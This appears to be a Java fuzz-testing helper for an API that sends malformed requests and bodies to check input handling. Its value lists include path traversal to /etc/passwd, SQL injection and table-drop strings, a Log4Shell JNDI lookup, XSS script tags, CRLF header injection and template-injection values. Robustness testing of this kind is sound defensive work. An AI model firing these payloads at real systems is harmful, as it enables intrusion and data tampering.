package org.uprtracker.api;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Requests that are nearly right, and values that nobody means well with. */
final class Hostile {
    /** As they stand in an address: most percent-encoded, some that should be and are not. */
    static final List<String> VALUES = List.of("", "%00", "a%00b", "%ED%A0%80", "%ED%B0%80x", "%C0%AF", "%FF%FE", "%", "%zz", "%u0041",
            "%E2%80%AE%D7%A9%D7%9C", "%F0%9F%95%8A", "e%CC%81", "%EF%BC%91", "%EF%BB%BFid", "%0D%0ASet-Cookie:%20x=1", "%0A",
            "%09", "-1", "0", "1", "501", "-0", "%2B1", "1.5", "1e400", "NaN", "0x10", "2147483648", "-2147483649",
            "9223372036854775808", "99999999999999999999999", "true", "TRUE", "null", "undefined", "[]", "%7B%22a%22:1%7D",
            "../../etc/passwd", "..%2f..%2f", "%2e%2e%2f", "..%5c..%5c", "'%20or%201=1--", "%27;drop%20table%20thing;--", "%25", "_",
            "*", "$%7Bjndi:ldap://x.example/a%7D", "%7B%7B7*7%7D%7D", "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cb%3E", "=1%2B1",
            "0000-00-00", "2019-02-30", "9999-12-31", "-9999-01-01", "10000-01-01", "2019-11-06T00:00:00Z", "2019-W01", "%20",
            "a%20b", "a,b", ",,,", "-", "--id", "id,id", ".", "..", "~", "!", "1.1", "1.1-000000000000", "KAZ", "kaz", "KAZ%20",
            "hrw", "01a2033c-214a-7924-a7f1-b6c8bb19ded0", "x".repeat(201), "x".repeat(5_000), "%F0%9F%95%8A".repeat(300),
            "%28".repeat(200), "%22".repeat(101), "a|b", "a^b", "a\"b", "<b>", "a\\b", "{x}", "`", "é", "a;b", "a=b", "a'b");

    private static final List<String> TEXTS = List.of("", " ", "\u0000", "\ud800", "\u202e\u05e9", "e\u0301", "🕊", "\r\nX: y",
            "=1+1", "<script>alert(1)</script>", "' or 1=1--", "../..", "null", "2019-02-30", "9999-12-31", "%00", "x".repeat(5_000),
            "x".repeat(120_000), "http://127.0.0.1/", "KAZ", "\ufeff", "\uffff", "\u2028");
    private static final List<String> WHOLE = List.of("", "null", "[]", "{}", "\"\"", "1", "true", "{", "{\"a\":}", "\ufeff{}", "{}{}",
            "{\"a\":1,\"a\":2}", "{'a':1}", "\"\\ud800\"", "[".repeat(5_000), "{\"a\":".repeat(40) + "1" + "}".repeat(40), "NaN",
            "{\"id\":1e400}", "{\"id\":" + "9".repeat(2_000) + "}", "<a/>", "a=b&c=d", "\u0000", "[[[]]]", "[{}]", "{\"\":\"\"}");

    private final Random random;

    Hostile(Random random) {
        this.random = random;
    }

    <T> T any(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    boolean in(int hundred) {
        return random.nextInt(100) < hundred;
    }

    String value(Operations.Parameter parameter) {
        List<String> right = Operations.right(parameter);
        List<String> beyond = Operations.beyond(parameter);
        if (!right.isEmpty() && in(50)) {
            return URLEncoder.encode(any(right), StandardCharsets.UTF_8);
        }
        return !beyond.isEmpty() && in(20) ? any(beyond) : any(VALUES);
    }

    /** A body as bytes: right, with something wrong in it, or wrong as a whole. */
    byte[] body(JsonNode right) {
        if (in(15)) {
            return any(WHOLE).getBytes(StandardCharsets.UTF_8);
        }
        JsonNode body = right.deepCopy();
        for (int times = random.nextInt(3); times > 0; times--) {
            body = spoiled(body);
        }
        String text = body.toString();
        if (in(5)) {
            text = text.substring(0, random.nextInt(text.length() + 1));
        }
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        if (in(3) && bytes.length > 0) {
            bytes[random.nextInt(bytes.length)] = (byte) 0xff;
        }
        return bytes;
    }

    private JsonNode spoiled(JsonNode body) {
        List<JsonNode> holders = new ArrayList<>();
        collect(body, holders);
        if (holders.isEmpty()) {
            return odd();
        }
        JsonNode holder = any(holders);
        if (holder instanceof ArrayNode array) {
            if (in(30) || array.isEmpty()) {
                array.add(odd());
            } else if (in(30)) {
                array.remove(0);
            } else {
                array.set(random.nextInt(array.size()), odd());
            }
        } else if (holder instanceof ObjectNode object) {
            List<String> names = object.properties().stream().map(Map.Entry::getKey).toList();
            if (in(20) || names.isEmpty()) {
                object.set(in(50) ? "unknown" : any(TEXTS), odd());
            } else if (in(30)) {
                object.remove(any(names));
            } else {
                object.set(any(names), odd());
            }
        }
        return body;
    }

    private static void collect(JsonNode node, List<JsonNode> holders) {
        if (node.isContainerNode()) {
            holders.add(node);
            node.forEach(child -> collect(child, holders));
        }
    }

    private JsonNode odd() {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        return switch (random.nextInt(10)) {
            case 0 -> nodes.nullNode();
            case 1 -> nodes.booleanNode(true);
            case 2 -> nodes.numberNode(any(List.of(-1, 0, 1, Integer.MAX_VALUE)));
            case 3 -> nodes.numberNode(new BigDecimal(any(List.of("1.5", "1E+400", "99999999999999999999", "-0.0"))));
            case 4 -> nodes.arrayNode();
            case 5 -> nodes.arrayNode().add(nodes.nullNode()).add("x");
            case 6 -> nodes.objectNode();
            case 7 -> nodes.objectNode().put("en", "x").put("xx", 1);
            default -> nodes.textNode(any(TEXTS));
        };
    }
}
